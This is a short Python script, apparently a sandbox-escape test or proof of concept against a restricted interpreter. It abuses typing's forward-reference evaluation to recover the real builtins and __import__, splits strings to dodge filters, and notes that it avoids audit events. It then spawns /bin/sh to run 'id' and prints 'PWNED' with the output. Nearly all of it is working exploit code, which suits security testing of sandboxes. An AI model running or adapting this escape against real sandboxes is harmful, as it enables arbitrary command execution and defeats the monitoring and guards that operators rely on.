# proc: os.posix_spawn through the real os
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
o = imp("o" + "s")  # already loaded: no audit event

try:
    r, w = o.pipe()
    pid = o.posix_spawn("/bin/sh", ["sh", "-c", "id"], {}, file_actions=[(o.POSIX_SPAWN_DUP2, w, 1)])
    o.close(w)
    print(M, pid, o.read(r, 200))
except Exception as e:
    print("refused:", type(e).__name__, e)
